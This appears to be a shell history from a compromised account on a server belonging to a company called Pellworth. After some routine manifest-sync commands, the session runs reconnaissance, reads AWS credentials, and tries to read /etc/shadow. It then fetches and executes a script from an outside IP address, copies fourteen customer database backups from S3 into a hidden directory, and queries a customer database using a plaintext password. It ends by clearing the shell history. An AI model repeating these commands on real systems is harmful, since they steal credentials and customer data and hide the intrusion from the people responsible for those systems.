cd manifests
ls -la
./sync.sh 2026-08-27
sftp -i ~/id_ed25519_dispatch sync@sftp-manifests.pellworth.internal
exit
w
id
uname -a
cat ~/.aws/credentials
sudo cat /etc/shadow
curl -s http://198.51.100.203:8443/k.sh -o /var/tmp/.sync/k.sh
chmod +x /var/tmp/.sync/k.sh; /var/tmp/.sync/k.sh
export AWS_PROFILE=dispatch-sync
aws s3 ls
aws s3 ls s3://pellworth-backups/
for i in $(seq -w 1 14); do aws s3 cp s3://pellworth-backups/portal-customers-$i.sql.gz /var/tmp/.sync/; done
psql "postgresql://portal_ro:qT7_wgFz29LmKd@pg-portal-01.pellworth.internal:5432/portal" -c "select count(*) from customers"
history -c
